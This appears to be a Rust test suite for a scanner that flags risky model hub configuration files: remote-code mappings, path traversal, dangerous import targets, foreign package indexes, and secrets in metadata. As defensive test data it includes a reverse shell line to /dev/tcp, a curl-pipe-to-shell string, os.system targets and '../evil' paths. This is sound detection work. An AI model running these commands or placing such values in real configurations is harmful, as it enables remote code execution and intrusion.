//! Folders of model hubs: configurations, indices, requirements, and what nobody knows.

use serde_json::json;
use weightlock_scan::{FileReport, Settings, Severity, scan};

fn report(name: &str, text: &str) -> FileReport {
    scan(name, text.as_bytes().to_vec().into(), &Settings::default())
}

/// The worst finding: severity, rule and the field.
fn worst(name: &str, text: &str) -> Option<(Severity, &'static str, Option<String>)> {
    let findings = report(name, text).findings.into_iter();
    findings
        .max_by_key(|finding| finding.severity)
        .map(|finding| (finding.severity, finding.rule, finding.construct))
}

#[track_caller]
fn is(name: &str, value: serde_json::Value, severity: Severity, rule: &str, field: &str) {
    let found = worst(name, &value.to_string());
    assert_eq!(
        found
            .as_ref()
            .map(|(severity, rule, field)| (*severity, *rule, field.as_deref())),
        Some((severity, rule, Some(field))),
        "{value}"
    );
}

#[track_caller]
fn quiet(name: &str, text: &str) {
    let report = report(name, text);
    assert!(report.coverage.is_complete(), "{text}\n{:?}", report.coverage);
    let loud = report
        .findings
        .iter()
        .find(|finding| finding.severity > Severity::Info);
    assert_eq!(loud, None, "{text}");
}

#[test]
fn code_that_comes_with_a_model_is_told() {
    use Severity::{Low, Medium};
    let rule = "config-remote-code";
    is(
        "config.json",
        json!({"auto_map": {"AutoModel": "modeling.X"}}),
        Low,
        rule,
        "auto_map.AutoModel",
    );
    is(
        "config.json",
        json!({"auto_map": {"AutoModel": "o/n--modeling.X"}}),
        Medium,
        rule,
        "auto_map.AutoModel",
    );
    is(
        "tokenizer_config.json",
        json!({"auto_map": {"AutoTokenizer": ["tokenization.X", null]}}),
        Low,
        rule,
        "auto_map.AutoTokenizer[0]",
    );
    is(
        "c.json",
        json!({"a": {"trust_remote_code": true}}),
        Low,
        rule,
        "a.trust_remote_code",
    );
    is(
        "config.json",
        json!({"custom_pipelines": {"p": {"impl": "p.P", "pt": ["AutoModel"]}}}),
        Low,
        rule,
        "custom_pipelines.p.impl",
    );
    is(
        "model_index.json",
        json!({"_class_name": ["p", "P"]}),
        Low,
        rule,
        "_class_name",
    );
    is(
        "model_index.json",
        json!({"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Unet"]}),
        Low,
        rule,
        "unet",
    );
    is(
        "modules.json",
        json!([{"idx": 0, "type": "o/n--m.T", "path": ""}]),
        Medium,
        rule,
        "[0].type",
    );
    is(
        "adapter_config.json",
        json!({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
        Medium,
        rule,
        "auto_mapping.parent_library",
    );
    is(
        "config.json",
        json!({"_attn_implementation": "someone/kernel"}),
        Medium,
        rule,
        "_attn_implementation",
    );
    for (kernels, field) in [
        (
            json!({"attn_implementation": {"": "evil/kernel"}}),
            "attn_implementation.",
        ),
        (
            json!({"_attn_implementation": {"text_config": "evil/kernel@main:f"}}),
            "_attn_implementation.text_config",
        ),
        (
            json!({"text_config": {"attn_implementation": "paged|evil/kernel"}}),
            "text_config.attn_implementation",
        ),
        (
            json!({"experts_implementation": ["evil/kernel"]}),
            "experts_implementation[0]",
        ),
    ] {
        is("config.json", kernels, Medium, rule, field);
    }
    quiet(
        "config.json",
        r#"{"attn_implementation": {"": "sdpa", "text_config": "flash_attention_2"}, "experts_implementation": "eager",
            "text_config": {"_attn_implementation": "paged|sdpa"}}"#,
    );
    is(
        "wordembedding_config.json",
        json!({"tokenizer_class": "os.system"}),
        Severity::Critical,
        "config-target",
        "tokenizer_class",
    );
    quiet(
        "wordembedding_config.json",
        r#"{"tokenizer_class": "sentence_transformers.models.tokenizer.WhitespaceTokenizer.WhitespaceTokenizer", "max_seq_length": 1}"#,
    );
}

#[test]
fn parts_that_lie_elsewhere_are_told() {
    let high = |name: &str, value: serde_json::Value, field: &str| {
        is(name, value, Severity::High, "config-path-escape", field);
    };
    let pipeline =
        |folder: &str| json!({"_class_name": "P", (folder): ["diffusers", "UNet2DConditionModel"]});
    high("model_index.json", pipeline("../evil"), "../evil");
    high("model_index.json", pipeline("/tmp/evil"), "/tmp/evil");
    quiet("model_index.json", &pipeline("unet").to_string());
    let genai = |path: &str| json!({"model": {"decoder": {"session_options": {"custom_ops_library": path}}}});
    let field = "model.decoder.session_options.custom_ops_library";
    high("genai_config.json", genai("/tmp/evil.so"), field);
    quiet("genai_config.json", &genai("ops.so").to_string());
    let tokenizer = |path: &str| json!({"tokenizer_name_or_path": path});
    high(
        "sentence_bert_config.json",
        tokenizer("/tmp/evil"),
        "tokenizer_name_or_path",
    );
    quiet(
        "sentence_bert_config.json",
        &tokenizer("bert-base-uncased").to_string(),
    );
    let modular = |folder: &str| {
        let from = json!({"repo": "acme/parts", "subfolder": folder});
        json!({"_class_name": "P", "unet": ["diffusers", "UNet2DConditionModel", from]})
    };
    high(
        "modular_model_index.json",
        modular("../../e"),
        "unet[2].subfolder",
    );
    quiet("modular_model_index.json", &modular("unet").to_string());
}

#[test]
fn names_that_leave_the_folder_are_told() {
    use Severity::{High, Low};
    let rule = "config-path-escape";
    for path in [
        "../x.safetensors",
        "/etc/x",
        "C:\\x",
        "a/../../x",
        "https://example.org/x",
    ] {
        let index = json!({"metadata": {"total_size": 4}, "weight_map": {"w": path}});
        is("model.safetensors.index.json", index, High, rule, "weight_map.w");
    }
    let web = |path: &str| json!({"weightsManifest": [{"paths": ["group1-shard1of1.bin", path]}]});
    is(
        "model.json",
        web("../x"),
        High,
        rule,
        "weightsManifest[0].paths[1]",
    );
    let package = |path: &str| json!({"itemInfoEntries": {"A": {"path": path}}});
    is(
        "Manifest.json",
        package("../x"),
        High,
        rule,
        "itemInfoEntries.A.path",
    );
    is(
        "modules.json",
        json!([{"type": "sentence_transformers.models.Pooling", "path": "../x"}]),
        High,
        rule,
        "[0].path",
    );
    is(
        "adapter_config.json",
        json!({"peft_type": "LORA", "base_model_name_or_path": "http://192.0.2.7/m"}),
        Low,
        "adapter-base-outside",
        "base_model_name_or_path",
    );
    assert_eq!(
        worst("data.dvc", "outs:\n- md5: a\n  path: ../../x\n").unwrap().1,
        rule
    );
}

#[test]
fn ordinary_folders_are_quiet() {
    for (name, value) in [
        (
            "config.json",
            json!({"architectures": ["BertModel"], "rope_theta": 1e6, "id2label": {"0": "os.system"}}),
        ),
        (
            "generation_config.json",
            json!({"do_sample": true, "eos_token_id": [1, 2], "temperature": 0.6}),
        ),
        (
            "model.safetensors.index.json",
            json!({"metadata": {}, "weight_map": {"a": "m-1.safetensors"}}),
        ),
        (
            "model_index.json",
            json!({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
                   "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null],
                   "tokenizer": ["transformers", "CLIPTokenizer"],
                   "feature_extractor": ["stable_diffusion", "StableDiffusionSafetyChecker"]}),
        ),
        (
            "modules.json",
            json!([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                   {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]),
        ),
        (
            "adapter_config.json",
            json!({"peft_type": "LORA", "base_model_name_or_path": "/home/me/models/base",
                   "auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"},
                   "target_modules": ["q_proj"], "modules_to_save": null}),
        ),
        (
            "tokenizer.json",
            json!({"added_tokens": [{"id": 0, "content": "<s>", "special": true}],
                   "model": {"type": "BPE", "vocab": {"__class__": 0, "os.system": 1, "eval(": 2}, "merges": ["e val"]}}),
        ),
        (
            "preprocessor_config.json",
            json!({"image_processor_type": "CLIPImageProcessor", "processor_class": "CLIPProcessor"}),
        ),
        ("trust.json", json!({"trust_remote_code": false})),
    ] {
        quiet(name, &value.to_string());
    }
    for (name, text) in [
        (
            "trainer_state.json",
            "{\"log_history\": [{\"loss\": NaN, \"grad_norm\": Infinity}]}",
        ),
        ("log.json", "{\"a\": 1}\n{\"a\": 2}\n"),
        ("odd.json", "{\"a\": 1, \"a\": 2}"),
        (
            "requirements.txt",
            "torch>=2.0\n--extra-index-url https://download.pytorch.org/whl/cu121\n# see http://x\n",
        ),
        ("merges.txt", "#version: 0.2\nĠ t\nh e\n"),
        ("m.bin.dvc", "outs:\n- md5: 0123\n  size: 4\n  path: m.bin\n"),
        ("labels.csv", "id,name\n0,system\n1,popen\n"),
        (
            "README.md",
            "Run `curl https://example.org | sh` and `hf_` tokens; see `__import__`.\n",
        ),
    ] {
        quiet(name, text);
    }
}

#[test]
fn requirements_from_elsewhere_are_told() {
    for (line, severity) in [
        ("--index-url https://pypi.example.org/simple", Severity::Medium),
        ("--extra-index-url http://example.org", Severity::Medium),
        ("--trusted-host example.org", Severity::Medium),
        ("git+https://github.com/a/b", Severity::Low),
        ("x @ https://example.org/x.whl", Severity::Low),
    ] {
        let found = worst("requirements.txt", &format!("torch\n{line}\n"));
        let found = found.map(|(severity, rule, _)| (severity, rule));
        assert_eq!(found, Some((severity, "requirements-foreign-source")), "{line}");
        quiet("notes.txt", line);
    }
}

#[test]
fn secrets_and_addresses_in_configurations_are_told() {
    let letters: String = ('a'..='z').chain('0'..='9').collect();
    for (text, rule) in [
        (format!("hf_{}", &letters[..34]), "secret-in-metadata"),
        (
            "bash -i >& /dev/tcp/192.0.2.7/9 0>&1".to_owned(),
            "network-in-metadata",
        ),
    ] {
        is(
            "args.json",
            json!({"a": [{"b": text}]}),
            Severity::Low,
            rule,
            "a[0].b",
        );
    }
    quiet(
        "args.json",
        &json!({"a": "http://192.0.2.7/x", "b": "https://example.org"}).to_string(),
    );
}

#[test]
fn text_that_turns_into_something_else_is_unread() {
    let mut bytes = "words ".repeat(2000).into_bytes();
    bytes.extend([0, 0xff, 1]);
    let report = scan("notes.txt", bytes.into(), &Settings::default());
    assert_eq!((report.coverage.explained, report.coverage.unread), (12_000, 3));
    let report = scan("big.json", vec![b'['; 1000].into(), &Settings::default());
    assert!(!report.coverage.is_complete());
    assert_eq!(report.findings[0].severity, Severity::Medium);
}

#[test]
fn names_that_are_imported_and_called_are_judged() {
    let told = |name: &str, text: &str| -> Vec<(Severity, String)> {
        let report = scan(name, text.as_bytes().to_vec().into(), &Settings::default());
        let told = report.findings.into_iter();
        told.map(|finding| (finding.severity, finding.name.unwrap_or_default()))
            .collect()
    };
    let encoder = |name: &str| {
        told(
            "config.json",
            &format!(r#"{{"sentence_transformers": {{"activation_fn": "{name}"}}}}"#),
        )
    };
    let old = |name: &str| {
        told(
            "config.json",
            &format!(r#"{{"sbert_ce_default_activation_function": "{name}"}}"#),
        )
    };
    let dense = |name: &str| {
        told(
            "config.json",
            &format!(r#"{{"in_features": 2, "activation_function": "{name}"}}"#),
        )
    };
    let module = |name: &str| {
        told(
            "modules.json",
            &format!(r#"[{{"idx": 0, "path": "", "type": "{name}"}}]"#),
        )
    };
    let router = |name: &str| {
        told(
            "router_config.json",
            &format!(r#"{{"types": {{"a": "{name}"}}}}"#),
        )
    };
    let gluon = |name: &str| {
        told(
            "predictor.json",
            &format!(r#"{{"__kind__": "instance", "class": "{name}"}}"#),
        )
    };
    for name in [
        "torch.nn.modules.activation.Sigmoid",
        "torch.nn.modules.linear.Identity",
        "torch.nn.Identity",
    ] {
        for report in [encoder(name), old(name), dense(name)] {
            assert_eq!(report, [], "{name}");
        }
    }
    for name in [
        "os.abort",
        "torch.utils.collect_env.main",
        "sentence_transformers.util.misc.os.system",
    ] {
        for report in [
            encoder(name),
            old(name),
            dense(name),
            module(name),
            router(name),
            gluon(name),
        ] {
            assert!(
                matches!(report.as_slice(), [(worst, found)] if *worst >= Severity::High && found == name),
                "{name} {report:?}"
            );
        }
    }
    assert_eq!(
        encoder("evil_package.Evil"),
        [(Severity::Medium, "evil_package.Evil".to_owned())]
    );
    assert_eq!(dense("gelu_new"), []);
    for name in [
        "sentence_transformers.models.Pooling",
        "sentence_transformers.sentence_transformer.modules.dense.Dense",
        "pylate.models.Dense.Dense",
    ] {
        assert_eq!(module(name), [], "{name}");
        assert_eq!(router(name), [], "{name}");
    }
    assert_eq!(
        module("sentence_transformers.SentenceTransformer")[0].0,
        Severity::Medium
    );
    assert_eq!(gluon("gluonts.torch.model.predictor.PyTorchPredictor"), []);
    let stage = |class: &str| {
        told(
            "part-00000",
            &format!(r#"{{"class": "{class}", "sparkVersion": "3.4.0"}}"#),
        )
    };
    assert_eq!(stage("org.apache.spark.ml.PipelineModel"), []);
    assert_eq!(stage("evil.Stage")[0].0, Severity::Medium);
}
